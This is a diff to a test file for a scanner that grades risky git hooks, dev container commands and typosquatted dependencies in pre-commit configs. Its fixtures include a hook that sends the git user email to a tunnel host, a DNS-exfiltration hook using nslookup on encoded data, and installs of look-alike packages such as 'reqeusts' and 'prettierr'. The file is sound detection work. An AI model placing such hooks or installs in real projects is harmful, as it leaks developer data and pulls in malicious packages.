@@ -100,6 +100,8 @@ describe('git-hook-command', () => {
   it('rates a hook that sends data to a tunnel, paste or bare-IP host high, a chat webhook as any network use', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\ncurl -s https://hooks.trycloudflare.com/c -d "$(git config --get user.email)" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
     expect(found('.husky/pre-push', null, 'curl -s -X POST https://hooks.slack.com/services/T000/B000/XXXX -d "{\\"text\\": \\"pushed\\"}"\n')).toEqual(['git-hook-command:medium']);
+    expect(found('.husky/pre-commit', null, 'npx lint-staged\nnslookup "$(git config --get user.email | base32 | tr -d =).h.git-stats.dev" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
+    expect(found('.husky/pre-commit', null, 'npx lint-staged\ndig +short "$(git rev-parse --short HEAD).preview.acme.dev"\n')).toEqual(['git-hook-command:low', 'git-hook-command:low']);
   });
   it('reports new husky and lefthook commands, graded by what they run', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\n')).toEqual(['git-hook-command:low']);
@@ -291,5 +293,25 @@ ${extra}`;
     const already = SETTINGS('').replace('collaborators:\n', 'collaborators:\n  - username: ops-team-lead\n    permission: maintain\n');
     expect(found('.github/settings.yml', already, already.replace('name: widgets', 'name: widgets\n  has_wiki: false'))).toEqual([]);
     expect(found('.github/settings.yml', SETTINGS(''), SETTINGS('').replace('collaborators:\n', 'collaborators:\n  - username: reader\n    permission: pull\n'))).toEqual([]);
+  });
+});
+
+describe('typosquat in dev container commands and pre-commit hooks', () => {
+  const dc = (extra: string) => `{\n  "name": "app",\n  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-22"${extra}\n}\n`;
+  const hooks = (lines: string) => `repos:\n  - repo: local\n    hooks:\n${lines}`;
+  it('reports a look-alike a lifecycle command or a Gitpod task installs, high, beside the command finding', () => {
+    expect(found('.devcontainer/devcontainer.json', dc(''), dc(',\n  "postCreateCommand": "npm i -g typescirpt && pip install --user reqeusts"'))).toEqual(['typosquat:high', 'typosquat:high', 'devcontainer-lifecycle-command:medium']);
+    expect(found('.gitpod.yml', null, 'tasks:\n  - init: npx -y prettierr --check .\n')).toEqual(['typosquat:high', 'devcontainer-lifecycle-command:low']);
+  });
+  it("reports a look-alike in a hook's additional_dependencies by its language, or by its spec without one, and in a local hook's entry", () => {
+    expect(found('.pre-commit-config.yaml', hooks("      - id: fmt\n        name: fmt\n        entry: prettier --write\n        language: node\n        additional_dependencies: ['prettier@3.3.3']\n"), hooks("      - id: fmt\n        name: fmt\n        entry: prettier --write\n        language: node\n        additional_dependencies: ['prettierr@3.3.3']\n"))).toEqual(['typosquat:high']);
+    const remote = (dep: string) => `repos:\n  - repo: https://github.com/pre-commit/mirrors-mypy\n    rev: v1.11.2\n    hooks:\n      - id: mypy\n        additional_dependencies: [${dep}]\n`;
+    expect(found('.pre-commit-config.yaml', remote("'types-requests==2.32.0.20240712'"), remote("'types-reqeusts==2.32.0.20240712'"))).toEqual(['typosquat:high']);
+    expect(found('.pre-commit-config.yaml', hooks('      - id: lint\n        name: lint\n        entry: npx eslint .\n        language: system\n'), hooks('      - id: lint\n        name: lint\n        entry: npx -y prettierr --check .\n        language: system\n'))).toContain('typosquat:high');
+  });
+  it('is quiet on popular names, their plugins, Go modules and paths', () => {
+    expect(found('.devcontainer/devcontainer.json', dc(''), dc(',\n  "postCreateCommand": "npm i -g typescript pnpm && pip install --user -r requirements-dev.txt && go install golang.org/x/tools/gopls@latest"'))).toEqual(['devcontainer-lifecycle-command:medium']);
+    const remote = (deps: string) => `repos:\n  - repo: https://github.com/pre-commit/mirrors-mypy\n    rev: v1.11.2\n    hooks:\n      - id: mypy\n        additional_dependencies: [${deps}]\n  - repo: https://github.com/rhysd/actionlint\n    rev: v1.7.1\n    hooks:\n      - id: actionlint\n        additional_dependencies: ['github.com/wasilibs/go-shellcheck/cmd/shellcheck@v0.10.0']\n`;
+    expect(found('.pre-commit-config.yaml', remote("'types-requests'"), remote("'types-requests', 'types-PyYAML==6.0.12', 'pydantic>=2', 'mypy-extensions', '@types/node@20'"))).toEqual([]);
   });
 });
